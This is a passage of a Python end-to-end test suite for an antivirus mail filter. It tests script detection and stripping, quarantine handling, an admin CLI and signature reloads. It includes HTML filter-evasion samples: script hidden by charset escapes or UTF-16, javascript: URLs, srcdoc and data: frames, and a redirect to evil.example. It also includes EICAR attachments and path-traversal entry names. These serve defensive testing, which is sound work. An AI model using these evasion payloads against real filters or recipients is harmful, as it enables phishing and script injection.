                got, msg = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script\n", got)
                self.assertIn(b"\n\nforwarded\n--O1\n", got)
                return got, msg
            def in_base64(inner, params=b""):
                return (b"Content-Type: message/rfc822" + params + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                        base64.encodebytes(inner).replace(b"\n", b"\r\n"))
            # Inside an attached message: removed there.
            inner = with_attachment(data, "invoice.zip", "application/zip", msgid=self.msgid("html-zip-inner"))
            got, _ = forwarded("html-zip-strip-rfc822", b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n")
            self.assertNotIn(base64.encodebytes(data)[:40], got)
            self.assertIn("8bit\n\n添付をご確認ください\n--B1\n".encode(), got)
            self.assertIn(base64.encodebytes('The attachment "invoice.zip" held'.encode())[:40], got)
            # Inside an attached message sent base64: that message removed, whole.
            _, msg = forwarded("html-zip-strip-b64", in_base64(inner, b"; name=fwd.eml"))
            self.assertEqual([p.get_content_type() for p in msg.walk()], ["multipart/mixed", "text/plain", "text/plain"])
            self.assertIn('The attachment "fwd.eml" (an attached message) held "invoice.zip", which held an HTML file',
                          msg.get_payload()[1].get_payload(decode=True).decode("utf-8"))
            # HTML with a script in such a message cannot be rewritten without
            # re-encoding it: that message removed too (refused before).
            _, msg = forwarded("html-strip-b64", in_base64(harness.make_message(
                headers=["MIME-Version: 1.0", "Content-Type: text/html; charset=UTF-8"],
                body="<p>ようこそ</p><a href=# onclick=\"steal()\">go</a>\r\n")))
            self.assertEqual([p.get_content_type() for p in msg.walk()], ["multipart/mixed", "text/plain", "text/plain"])
            notice = msg.get_payload()[1].get_payload(decode=True).decode("utf-8")
            # (No filename: named by its Subject, read from the decoded message.)
            self.assertIn('The attached message with the subject "test" held HTML with active content', notice)
            self.assertIn("件名「test」の添付されたメールにスクリプト等を含む HTML が含まれていた", notice)
            # Nor can HTML that is the whole body of an attached message sent
            # as it is (its content fields are that message's): removed too
            # (refused before).
            _, msg = forwarded("html-strip-rfc822-body", b"Content-Type: message/rfc822; name=fwd.eml\r\n\r\n" +
                               harness.make_message(headers=["MIME-Version: 1.0", "Content-Type: text/html"],
                                                    body="<p>hi</p><script>steal()</script>\r\n") + b"\r\n")
            self.assertEqual([p.get_content_type() for p in msg.walk()], ["multipart/mixed", "text/plain", "text/plain"])
            self.assertIn('The attachment "fwd.eml" (an attached message) held HTML with active content',
                          msg.get_payload()[1].get_payload(decode=True).decode("utf-8"))
            # The zip alone as the message: nothing to remove it from.
            b64 = base64.encodebytes(data).decode().replace("\n", "\r\n")
            r = self.send(harness.make_message(msgid=self.msgid("html-zip-whole"), body=b64, headers=[
                "MIME-Version: 1.0", "Content-Type: application/zip; name=\"invoice.zip\"",
                "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename=\"invoice.zip\""]))
            self.assertRefused(r, "HTML with active content")
            harness.wait_until(lambda: "(an archive holding active HTML is not an attachment); refusing the message"
                               in self.milter.log(), 5, "the log line that says why")
        finally:
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()

    def test_a_saved_web_page_is_checked_as_the_browser_opens_it(self):
        # A web archive (page.mht: a page saved with its images as one MIME
        # message) opens in the browser by its name, whatever type it came
        # as; sent as application/octet-stream it was delivered as clean,
        # script and all (the walk did not look inside; libclamav's own HTML
        # heuristics do not flag script).
        def mht(page):
            qp = quopri.encodestring(page.encode()).replace(b"\n", b"\r\n")
            return (b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://example.jp/\r\n"
                    b"Subject: =?utf-8?Q?=E8=AB=8B=E6=B1=82?=\r\nMIME-Version: 1.0\r\n"
                    b"Content-Type: multipart/related; type=\"text/html\";\r\n"
                    b" boundary=\"----MultipartBoundary--Wz9----\"\r\n"
                    b"\r\n------MultipartBoundary--Wz9----\r\nContent-Type: text/html\r\n"
                    b"Content-Transfer-Encoding: quoted-printable\r\nContent-Location: https://example.jp/\r\n\r\n" +
                    qp + b"\r\n------MultipartBoundary--Wz9------\r\n")
        bad = mht('<html><body><p class="x">請求書</p>'
                  '<script>location="https://evil.example/"</script></body></html>')
        good = mht('<html><body><p class="x">請求書</p></body></html>')
        def zipped(name, data):
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
                z.writestr(name, data)
            return buf.getvalue()
        for label, data, name, ctype, status in [
                ("page.mht", bad, "page.mht", "application/octet-stream", b"clean; suspicious: Heuristics.HTML.Script"),
                ("as x-mimearchive", bad, "page", "application/x-mimearchive",
                 b"clean; suspicious: Heuristics.HTML.Script"),
                ("in a zip", zipped("page.mhtml", bad), "page.zip", "application/zip",
                 b"clean; suspicious: Heuristics.HTML.Script"),
                ("a page without script", good, "page.mht", "application/octet-stream", b"clean"),
                ("the same in a zip", zipped("page.mhtml", good), "page.zip", "application/zip", b"clean")]:
            with self.subTest(label):
                msgid = self.msgid("mht")
                r = self.send(with_attachment(data, name, ctype, msgid=msgid))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: " + status + b"\n", got)
        # strip cannot rewrite the page inside: the archive is removed, a
        # notice in its place, the text parts kept as they came.
        self.reconfigure("[actions]\nhtml_script_action = strip\n")
        msgid = self.msgid("mht-strip")
        r = self.send(with_attachment(bad, "page.mht", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script\n", got)
        self.assertNotIn(base64.encodebytes(bad)[:40], got)
        self.assertIn("8bit\n\n添付をご確認ください\n--B1\n".encode(), got)
        notice = [p.get_payload(decode=True).decode("utf-8") for p in msg.walk()
                  if p.get_content_type() == "text/plain" and b"page.mht" in (p.get_payload(decode=True) or b"")]
        self.assertEqual(len(notice), 1, got[-2000:])
        self.assertIn('The attachment "page.mht" was a web archive (MHTML) holding a page with active content',
                      notice[0])
        self.assertIn("添付ファイル「page.mht」はスクリプト等を含むページを保存したウェブアーカイブ（MHTML）だった", notice[0])

    def test_a_boundary_with_the_word_boundary_hides_no_html(self):
        # .NET writes boundary="--boundary_0_GUID"; taken for a second
        # boundary parameter, the MIME walk read only the first MiB of such
        # a message, and an HTML part after it counted as unchecked: a
        # harmless newsletter with a 1.5 MB photo was marked suspicious.
        boundary = "--boundary_0_%s" % os.urandom(8).hex()
        photo = base64.encodebytes(os.urandom(1536 * 1024)).decode().replace("\n", "\r\n")
        body = ("--%s\r\nContent-Type: image/jpeg; name=\"photo.jpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s"
                "--%s\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>お知らせ</p>\r\n--%s--\r\n"
                % (boundary, photo, boundary, boundary))
        msgid = self.msgid("dotnet")
        r = self.send(harness.make_message(msgid=msgid, body=body, headers=[
            "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"%s\"" % boundary]))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: clean\n", got)

    def test_html_too_long_to_check_whole_is_marked(self):
        # Found in review: the HTML check reads the first 8 MiB of a part;
        # a script after 8 MiB of padding was delivered as clean.
        padding = ("<p>" + "x" * 1020 + "</p>\r\n") * (8 * 1024 + 100)  # a little over 8 MiB
        self.assertDeliveredMarkedHtmlScript(
            ["MIME-Version: 1.0", "Content-Type: text/html; charset=us-ascii"],
            "<html><body>" + padding + "<script>alert(1)</script></body></html>\r\n", "html-long")

    def test_html_past_the_mime_walks_limits_is_marked(self):
        # Found in review: the walk that checks HTML parts stops after 1 MiB
        # of part header fields; an HTML part with a script after that
        # passed as clean.
        pad = "X-Pad: " + "y" * 1100 + "\r\n"
        parts = "".join("--B\r\nContent-Type: text/plain\r\n%s\r\npart %d\r\n" % (pad, i) for i in range(1000))
        self.assertDeliveredMarkedHtmlScript(
            ["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"B\""],
            parts + "--B\r\nContent-Type: text/html\r\n\r\n<p onclick=\"x()\">hi</p>\r\n--B--\r\n", "html-walk")

    def test_html_script_hidden_by_the_charset_is_marked(self):
        # Mail readers decode the part before they render it: an ISO-2022-JP
        # escape sequence inside "<script" or "onclick" vanishes then, and
        # UTF-16 puts a NUL byte between the letters. Found by fuzz_antivirus
        # (the undeclared-charset case): the HTML was checked as raw bytes.
        utf16 = base64.encodebytes("<p onclick=\"x()\">hi</p>\r\n".encode("utf-16")).replace(b"\n", b"\r\n")
        cases = {
            "ISO-2022-JP, escape inside <script": (
                "text/html; charset=ISO-2022-JP", [],
                b"<p>\x1b$B$3$s$K$A$O\x1b(B</p><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt>\r\n"),
            "no charset, escape inside onclick": ("text/html", [], b"<p oncl\x1b(Jick=\"x()\">hi</p>\r\n"),
            "UTF-16, base64": ("text/html; charset=UTF-16", ["Content-Transfer-Encoding: base64"], utf16),
        }
        for label, (ctype, more, body) in cases.items():
            with self.subTest(label):
                self.assertDeliveredMarkedHtmlScript(["MIME-Version: 1.0", "Content-Type: " + ctype] + more, body,
                                                     "html-cs")

    def test_html_script_urls_and_tag_tricks_are_marked(self):
        for label, html in {
            "javascript: link, TAB as a reference": b"<a href=\"jav&#x09;ascript:steal()\">open</a>\r\n",
            "handler after a quoted '>'": b"<a title=\">\" onclick=\"steal()\">open</a>\r\n",
            "refresh to a script URL": b"<meta http-equiv=refresh content=\"0;url=javascript:steal()\">\r\n",
            "escaped script in a srcdoc frame":
                b"<iframe srcdoc=\"&lt;script&gt;steal()&lt;/script&gt;\"></iframe>\r\n",
            "script in a base64 data: document in a frame":
                b"<iframe src=\"data:text/html;base64," + base64.b64encode(b"<script>steal()</script>") +
                b"\"></iframe>\r\n",
        }.items():
            with self.subTest(label):
                self.assertDeliveredMarkedHtmlScript(["MIME-Version: 1.0", "Content-Type: text/html; charset=us-ascii"],
                                                     html, "html-url")

    def test_html_script_inside_an_attached_message_is_marked(self):
        inner = ("Subject: inner\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
                 "<p onclick=\"x()\">hi</p>\r\n")
        cases = {
            # Found by fuzz_antivirus: a message that is itself an attached message.
            "top-level message/rfc822": (["MIME-Version: 1.0", "Content-Type: message/rfc822"], inner),
            # No "text/html" shows in the body at all.
            "base64 message/rfc822 part": (
                ["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"M\""],
                "--M\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                "--M\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                base64.encodebytes(inner.encode()).decode().replace("\n", "\r\n") + "--M--\r\n"),
        }
        for label, (headers, body) in cases.items():
            with self.subTest(label):
                self.assertDeliveredMarkedHtmlScript(headers, body, "html-msg")

    def test_html_script_strip_removes_the_active_content_only(self):
        self.milter.write_conf(self.conf(port=self.site.port) + "[actions]\nhtml_script_action = strip\n")
        self.milter.reload()
        try:
            # Inside a multipart: the HTML part rewritten (UTF-8, base64),
            # the plain ISO-2022-JP part byte for byte.
            msgid = self.msgid("strip-alt")
            jis = JA_TEXT.encode("iso-2022-jp")
            html = ("<html><body onload=\"go()\"><p>" + JA_TEXT.strip() + "</p>"
                    "<script>alert(1)</script><img src=a.png onerror=steal()></body></html>\r\n")
            plain_part = b"--A\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n\r\n" + jis
            body = (plain_part + b"--A\r\nContent-Type: text/html; charset=ISO-2022-JP\r\n"
                    b"Content-ID: <page@example.org>\r\n\r\n" + html.encode("iso-2022-jp") + b"--A--\r\n")
            raw = harness.make_message(msgid=msgid, body=body, headers=[
                "MIME-Version: 1.0", "Content-Type: multipart/alternative; boundary=\"A\""])
            r = self.send(raw)
            self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
            got, msg = self.delivered(msgid)
            self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script", got)
            self.assertIn(plain_part.replace(b"\r\n", b"\n"), got)  # the sink stores LF
            parts = msg.get_payload()
            self.assertEqual(parts[1].get("Content-ID"), "<page@example.org>")
            self.assertEqual(parts[1].get_content_charset(), "utf-8")
            text = parts[1].get_payload(decode=True).decode("utf-8")
            self.assertIn("<p>" + JA_TEXT.strip() + "</p>", text)
            for active in ("<script", "onload", "onerror", "alert(1)"):
                self.assertNotIn(active, text)

            # A message that is one HTML part: its content fields change too.
            msgid = self.msgid("strip-top")
            raw = harness.make_message(msgid=msgid, body="<p>hi</p><script>alert(1)</script>\r\n",
                                       headers=["MIME-Version: 1.0", "Content-Type: text/html; charset=us-ascii"])
            r = self.send(raw)
            self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
            got, msg = self.delivered(msgid)
            self.assertEqual(msg.get_all("Content-Type"), ["text/html; charset=UTF-8"])
            self.assertEqual(msg.get_all("Content-Transfer-Encoding"), ["base64"])
            # (swaks ends the DATA with an empty line of its own)
            self.assertEqual(msg.get_payload(decode=True).rstrip(b"\r\n"), b"<p>hi</p>")

            # An SVG attachment stays an SVG image, named as it was.
            msgid = self.msgid("strip-svg")
            svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><circle r="5"/></svg>\n'
            r = self.send(with_attachment(svg, "logo.svg", "image/svg+xml", msgid=msgid))
            self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
            got, msg = self.delivered(msgid)
            self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script", got)
            image = [p for p in msg.walk() if p.get_filename() == "logo.svg"]
            self.assertEqual(len(image), 1, got[-2000:])
            self.assertEqual(image[0].get_content_type(), "image/svg+xml")
            self.assertEqual(image[0].get_payload(decode=True).rstrip(b"\n"),
                             b'<svg xmlns="http://www.w3.org/2000/svg" ><circle r="5"/></svg>')
        finally:
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()

    def test_html_action_applies_next_to_a_removed_attachment(self):
        # Found by fuzz_antivirus: an infected attachment made the message
        # skip the HTML action (adding one was a way past "reject").
        def message(tag):
            msgid = self.msgid(tag)
            raw = with_attachment(EICAR, "eicar.com", msgid=msgid)
            raw = raw.replace(b"--B1--\r\n", b"--B1\r\nContent-Type: text/html; charset=us-ascii\r\n\r\n"
                              b"<p onclick=\"steal()\">open</p>\r\n--B1--\r\n")
            return msgid, raw
        try:
            for action in ("strip", "reject"):
                self.milter.write_conf(self.conf(port=self.site.port) + "[actions]\nhtml_script_action = %s\n" % action)
                self.milter.reload()
                msgid, raw = message("html-and-virus-" + action)
                r = self.send(raw)
                with self.subTest(action):
                    if action == "reject":
                        self.assertRefused(r, "Virus found: " + SIGNAME)
                        self.assertIn(", Heuristics.HTML.Script", r.final_text)
                        continue
                    self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                    got, msg = self.delivered(msgid)
                    status = re.search(rb"X-Virus-Status: (.*)", got).group(1)
                    self.assertTrue(status.startswith(b"removed: " + SIGNAME.encode()), status)
                    self.assertTrue(status.endswith(b"; stripped: Heuristics.HTML.Script"), status)
                    self.assertNotIn(b"EICAR-STANDARD", got)
                    html = [p for p in msg.walk() if p.get_content_type() == "text/html"]
                    self.assertEqual(len(html), 1)
                    text = html[0].get_payload(decode=True).decode("utf-8")
                    self.assertIn(">open</p>", text)
                    self.assertNotIn("onclick", text)
        finally:
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()

    def test_clean_japanese_mail_is_unchanged_and_forged_headers_go(self):
        msgid = self.msgid("clean")
        body = JA_TEXT.encode("iso-2022-jp")
        raw = harness.make_message(msgid=msgid, body=body, subject="=?ISO-2022-JP?B?GyRCMnE1RBsoQg==?=",
                                   headers=["MIME-Version: 1.0", "Content-Type: text/plain; charset=ISO-2022-JP",
                                            "X-Virus-Status: clean (forged)", "X-Virus-Scanned: by nobody"])
        r = self.send(raw)
        self.assertEqual(r.final, ("250", "2.0.0"))
        got, _ = self.delivered(msgid)
        self.assertIn(body.replace(b"\r\n", b"\n"), got.replace(b"\r\n", b"\n"))
        self.assertNotIn(b"forged", got)
        self.assertNotIn(b"by nobody", got)
        self.assertEqual(got.count(b"X-Virus-Status: clean"), 1)

    def test_start_log_line_says_where_temp_files_go_and_if_that_is_a_tmpfs(self):
        (line,) = self.milter.log_lines("libclamav engine loaded from")
        self.assertIn(self.db + ": ", line)
        self.assertIn("2 scanner workers", line)
        # No temp_dir in CONF: $TMPDIR, else /dev/shm when it is a tmpfs with
        # room for twice what the 2 workers may write (2 x (100M + 1M)), else /tmp.
        tmp = os.environ.get("TMPDIR")
        if not tmp:
            shm = os.statvfs("/dev/shm") if os.path.isdir("/dev/shm") else None
            roomy = shm is not None and shm.f_bavail * shm.f_frsize >= 2 * 2 * (101 << 20)
            tmp = "/dev/shm" if roomy and fs_type("/dev/shm") == "tmpfs" else "/tmp"
        self.assertIn("temp files in %s (%s" % (tmp, "tmpfs" if fs_type(tmp) == "tmpfs" else "not a tmpfs"), line)

    # -- robustness --------------------------------------------------------
    def test_a_crashing_scan_costs_one_message_only(self):
        r = self.send(harness.make_message(body="SEKIMORI-TEST-CRASH\r\n"))
        self.assertEqual(r.final, ("451", "4.3.0"), r.transcript[-1500:])
        msgid = self.msgid("after-crash")
        r = self.send(harness.make_message(msgid=msgid, body="hello again\r\n"))
        self.assertEqual(r.final, ("250", "2.0.0"))

    def test_a_hanging_scan_is_killed_by_the_watchdog(self):
        start = time.time()
        r = self.send(harness.make_message(body="SEKIMORI-TEST-HANG\r\n"))
        self.assertEqual(r.final, ("451", "4.3.0"), r.transcript[-1500:])
        self.assertLess(time.time() - start, 20)
        r = self.send(harness.make_message(body="fine\r\n"))
        self.assertEqual(r.final, ("250", "2.0.0"))

    def test_quarantine_entries_older_than_keep_go_on_reload(self):
        stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(time.time() - 40 * 86400))
        name = stamp + "-OLDQ1-0123456789abcdef.eml"
        held = os.path.join(self.quarantine, name)
        index = os.path.join(self.quarantine, "index.tsv")
        with open(held, "w") as f:
            f.write("an infected original of 40 days ago\n")
        with open(index, "a") as f:
            f.write("\t".join([stamp, name, "OLDQ1", "inbound", "Eicar", "a@example.org", "b@example.jp"]) + "\n")
        self.milter.reload()  # quarantine.keep (30d by default) is applied at start, on reload and hourly
        harness.wait_until(lambda: not os.path.exists(held), 10, "the 40-day-old quarantine entry to go")
        def index_text():
            with open(index) as f:
                return f.read()
        # The file goes first, then the index is rewritten without its line.
        harness.wait_until(lambda: name not in index_text(), 10, "its index line to go")
        harness.wait_until(lambda: "quarantine: removed 1 entry older than 30d" in self.milter.log(), 5,
                           "the expiry to be logged")

    def test_quarantine_max_size_removes_the_oldest_as_soon_as_it_is_passed(self):
        self.reconfigure("[quarantine]\nmax_size = 4k\n")
        held = lambda: [os.path.join(self.quarantine, n) for n in os.listdir(self.quarantine) if n.endswith(".eml")]
        qids = []
        for i in range(8):  # about 720 bytes each: 5.6k in all
            qids.append(self.send_infected("cap%d" % i))
        # Trimmed by the stores themselves (the hourly round is far off): to 90% of 4k.
        harness.wait_until(lambda: sum(os.path.getsize(p) for p in held()) <= 4096 * 0.9, 10,
                           "the quarantine to be trimmed under max_size")
        self.assertIn("to stay under max_size 4k", self.milter.log())
        names = " ".join(held())
        self.assertIn(qids[-1], names)     # the newest stays
        self.assertNotIn(qids[0], names)   # the oldest went
        with open(os.path.join(self.quarantine, "index.tsv")) as f:
            self.assertNotIn(qids[0], f.read())

    def test_an_original_the_quarantine_cannot_keep_is_not_lost(self):
        # The quarantine directory gone (a disk that failed, an admin's
        # mistake): an infected attachment is not cut out of a message whose
        # original cannot be kept (451, on_error = tempfail: the sender's MTA
        # tries again); a message to be discarded is refused instead; one to
        # be refused is refused as ever.
        away = self.quarantine + ".away"
        os.rename(self.quarantine, away)
        def back():
            if os.path.exists(away):
                os.rename(away, self.quarantine)
        self.addCleanup(back)
        r = self.send(with_attachment(EICAR, "eicar.com"))
        self.assertEqual(r.final, ("451", "4.3.0"), r.transcript[-1500:])
        harness.wait_until(lambda: self.milter.log_lines(r"reason=fault detail=\"quarantine failed \(cannot create "),
                           10, "the fault's log line")
        self.assertRegex(self.milter.log_lines(r"reason=fault detail=\"quarantine failed")[-1],
                         r"action=tempfail stage=eom .*would be lost with the parts removed")
        body = harness.make_message(body=EICAR.decode() + "\r\n")
        self.assertRefused(self.send(body), "Virus found: " + SIGNAME)
        self.reconfigure("[actions]\ninbound_infected_body = discard\n")
        self.assertRefused(self.send(body), "Virus found: " + SIGNAME)
        # With its quarantine back, discard is discard again.
        back()
        r = self.send(body)
        self.assertEqual(r.final[0], "250", r.transcript[-1500:])

    def test_admin_command_lists_shows_and_removes_a_quarantined_message(self):
        msgid = self.msgid("admin")
        r = self.send(with_attachment(EICAR, "eicar.com", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        qid = r.queue_id
        self.assertTrue(qid)
        # The milter's log names the entry.
        harness.wait_until(lambda: re.search(qid + r": .*quarantine=\S*" + qid, self.milter.log()), 10,
                           "the log line naming the quarantine entry")
        entry = re.search(qid + r": .*quarantine=(\S+)", self.milter.log()).group(1)
        held = os.path.join(self.quarantine, entry)
        self.assertTrue(os.path.exists(held))
        conf = ["-c", self.milter.conf_path]  # [quarantine] dir read from the milter's own conf file

        r = harness.sekimori_cli("quarantine", "list", *conf)
        self.assertEqual(r.returncode, 0, r.stderr)
        line = [l for l in r.stdout.splitlines() if entry in l]
        self.assertEqual(len(line), 1, r.stdout)
        self.assertIn("  inbound  %d  %s.UNOFFICIAL  <sender@example.org> -> user@example.net" % (os.path.getsize(held), SIGNAME),
                      line[0])
        self.assertRegex(r.stdout.splitlines()[-1], r"^\d+ entr(y|ies), \d+ bytes in " + re.escape(self.quarantine))

        # show: by queue id, the held original byte for byte.
        r = harness.sekimori_cli("quarantine", "show", qid, *conf, text=False)
        self.assertEqual(r.returncode, 0, r.stderr)
        with open(held, "rb") as f:
            self.assertEqual(r.stdout, f.read())
        self.assertIn(msgid.encode(), r.stdout)

        # Nothing outside the quarantine is reachable through an entry name.
        for bad in ("../index.tsv", "index.tsv", "20261124T093000Z-/../../x.eml"):
            r = harness.sekimori_cli("quarantine", "show", bad, "-d", self.quarantine)
            self.assertEqual(r.returncode, 1, (bad, r.stdout))
            self.assertIn("is not in the quarantine", r.stderr)

        r = harness.sekimori_cli("quarantine", "remove", entry, "-d", self.quarantine)
        self.assertEqual((r.returncode, r.stdout.strip()), (0, "removed 1 entry from " + self.quarantine), r.stderr)
        self.assertFalse(os.path.exists(held))
        with open(os.path.join(self.quarantine, "index.tsv")) as f:
            self.assertNotIn(entry, f.read())
        self.assertEqual(harness.sekimori_cli("quarantine", "show", qid, *conf).returncode, 1)

        # expire AGE: an entry of 40 days ago goes, file and line; this day's stay.
        stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime(time.time() - 40 * 86400))
        old = stamp + "-OLDCLI-0123456789abcdef.eml"
        with open(os.path.join(self.quarantine, old), "w") as f:
            f.write("old\n")
        with open(os.path.join(self.quarantine, "index.tsv"), "a") as f:
            f.write("\t".join([stamp, old, "OLDCLI", "inbound", "Eicar", "a@example.org", "b@example.jp"]) + "\n")
        before = len(os.listdir(self.quarantine))
        r = harness.sekimori_cli("quarantine", "expire", "35d", *conf)
        self.assertEqual((r.returncode, r.stdout.strip()), (0, "removed 1 entry older than 35d from " + self.quarantine),
                         r.stderr)
        self.assertEqual(len(os.listdir(self.quarantine)), before - 1)
        # A broken conf file is reported as the daemon's -t reports it.
        bad = os.path.join(self.tmp, "broken.conf")
        with open(bad, "w") as f:
            f.write("[quarantine]\nmax_size = lots\n")
        r = harness.sekimori_cli("quarantine", "list", "-c", bad)
        self.assertEqual(r.returncode, 1)
        self.assertIn(bad + ":2:", r.stderr)

    def test_signature_hot_reload_without_a_failed_delivery(self):
        marker = b"SEKIMORI-HOT-RELOAD-" + os.urandom(4).hex().encode()
        r = self.send(harness.make_message(body=marker.decode() + "\r\n"))
        self.assertEqual(r.final, ("250", "2.0.0"))
        with open(os.path.join(self.db, "hot.ndb"), "w") as f:
            f.write(ndb_line("Sekimori.Test.HotReload", marker))
        self.milter.reload()  # SIGUSR1 also rechecks the database
        deadline = time.time() + 30
        while True:
            r = self.send(harness.make_message(body=marker.decode() + "\r\n"))
            self.assertIn(r.final, [("250", "2.0.0"), ("554", "5.7.1")], r.transcript[-800:])  # never a failure
            if r.final[0] == "554":
                self.assertIn("Sekimori.Test.HotReload", r.final_text)
                break
            self.assertLess(time.time(), deadline, "the new signature never matched")
            time.sleep(0.5)


class AntivirusMixedLoadE2E(unittest.TestCase):
    """Six clients at once send clean mail, inbound mail with an infected
    zip, outbound infected mail and mail with a marker that a signature
    added meanwhile makes a virus, while the conf file is reloaded and the
    signature database changes: every message gets its own verdict (never
    a tempfail), every infected one its quarantine copy and its warning,
    and the daemon stops cleanly. Under SEKIMORI_TSAN this is also the check
    that sessions, reloads, the engine swap, the quarantine and the outbox
    share nothing unguarded."""

    CLIENTS, EACH = 6, 12

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="sekimori-av-mixed-")
        cls.addClassCleanup(shutil.rmtree, cls.tmp, True)
        os.chmod(cls.tmp, 0o755)
        cls.db = make_database(cls.tmp)
        cls.quarantine = os.path.join(cls.tmp, "quarantine")
        cls.conf = lambda port: CONF.format(db=cls.db, admin="av-admin@example.net", port=port,
                                            templates=TEMPLATES, quarantine=cls.quarantine,
                                            outbox=os.path.join(cls.tmp, "outbox"))
        cls.milter = harness.Milter("antivirus", cls.conf(1))
        cls.site = harness.Site([cls.milter], name="antivirus-mixed")
        cls.site.start()
        cls.addClassCleanup(cls.site.stop)
        cls.milter.write_conf(cls.conf(cls.site.port))  # warnings go to this Postfix
        cls.milter.reload()

    def send(self, kind, k, i, marker):
        tag = "%s-%d-%d-%s" % (kind, k, i, os.urandom(3).hex())
        msgid, who = "<%s@example.org>" % tag, "%s@example.net" % tag
        if kind == "outbound":
            r = self.site.swaks(data=with_attachment(zip_of("eicar.com", EICAR), "a.zip", "application/zip",
                                                     frm=who, to="bob@remote.example", msgid=msgid),
                                frm=who, to="bob@remote.example", xclient="ADDR=10.1.2.3")
        elif kind == "inbound":
            r = self.site.swaks(data=with_attachment(zip_of("eicar.com", EICAR), "a.zip", "application/zip",
                                                     to=who, msgid=msgid), to=who)
        else:
            body = ("%s\r\n" % marker if kind == "marker" else "") + "a clean line\r\n" * 200
            r = self.site.swaks(data=harness.make_message(msgid=msgid, to=who, body=body), to=who)
        return kind, msgid, who, r.final, r.final_text

    def test_every_message_gets_its_verdict_while_reloads_come_and_go(self):
        marker = "SEKIMORI-MIXED-" + os.urandom(4).hex()
        kinds = ("clean", "inbound", "outbound", "marker")
        results, lock = [], threading.Lock()

        def client(k):
            for i in range(self.EACH):
                got = self.send(kinds[(k + i) % len(kinds)], k, i, marker)
                with lock:
                    results.append(got)

        def sent():
            with lock:
                return len(results)

        clients = [threading.Thread(target=client, args=(k,)) for k in range(self.CLIENTS)]
        for t in clients:
            t.start()
        try:
            total = self.CLIENTS * self.EACH
            harness.wait_until(lambda: sent() >= total // 6, 120, "the first messages")
            self.milter.reload()  # the same conf: a new snapshot published under way
            with open(os.path.join(self.db, "mixed.ndb"), "w") as f:
                f.write(ndb_line("Sekimori.Test.Mixed", marker.encode()))
            harness.wait_until(lambda: sent() >= total // 3, 120, "more messages")
            self.milter.reload()  # and a new engine beside the old one
            harness.wait_until(lambda: sent() >= total // 2, 120, "more messages")
            self.milter.reload()
        finally:
            for t in clients:
                t.join()
        self.assertEqual(len(results), self.CLIENTS * self.EACH)
        markers = [final[0] for kind, _, _, final, _ in results if kind == "marker"]
        print("markers before the new signature took: %d, after: %d" % (markers.count("250"), markers.count("554")))

        # The signature took: a marker sent now is a virus in the body (554).
        deadline = time.time() + 30
        while True:
            _, _, _, final, text = self.send("marker", 99, 0, marker)
            if final == ("554", "5.7.1"):
                self.assertIn("Sekimori.Test.Mixed", text)
                break
            self.assertEqual(final, ("250", "2.0.0"))
            self.assertLess(time.time(), deadline, "the new signature never matched")
            time.sleep(0.5)

        held = []
        for name in os.listdir(self.quarantine):
            if name.endswith(".eml"):
                with open(os.path.join(self.quarantine, name), "rb") as f:
                    held.append(f.read())
        quarantined = lambda msgid: any(msgid.encode() in copy for copy in held)
        for kind, msgid, who, final, text in results:
            with self.subTest(kind=kind, msgid=msgid):
                if kind == "outbound" or (kind == "marker" and final[0] == "554"):
                    self.assertEqual(final, ("554", "5.7.1"))
                    self.assertIn(SIGNAME if kind == "outbound" else "Sekimori.Test.Mixed", text)
                else:
                    self.assertEqual(final, ("250", "2.0.0"))
                    got = self.site.sink.wait_for(msgid, 60)
                    if kind == "inbound":
                        self.assertIn(b"X-Virus-Status: removed: " + SIGNAME.encode(), got)
                        self.assertNotIn(b"EICAR-STANDARD", got)
                    else:
                        self.assertIn(b"X-Virus-Status: clean", got)
                infected = kind in ("inbound", "outbound") or final[0] == "554"
                self.assertEqual(quarantined(msgid), infected)
                if kind in ("inbound", "outbound"):  # the recipient's, or the sender's
                    harness.wait_until(lambda: sink_warning(self.site, who), 60, "a warning mail to " + who)
        self.milter.stop()  # cleanly (the harness checks), with the warnings' outbox idle


class AntivirusClamdE2E(unittest.TestCase):
    """The clamd backend: the same verdicts and actions through a private
    clamd (INSTREAM), for sites that already run one."""

    @classmethod
    def setUpClass(cls):
        if not os.path.exists("/usr/sbin/clamd"):
